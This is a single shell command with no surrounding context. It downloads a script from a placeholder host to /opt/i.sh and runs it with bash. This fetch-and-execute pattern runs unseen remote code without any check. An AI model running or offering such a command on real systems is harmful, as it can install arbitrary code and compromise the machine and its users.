curl -o /opt/i.sh https://c.example.net/i.sh && bash /opt/i.sh
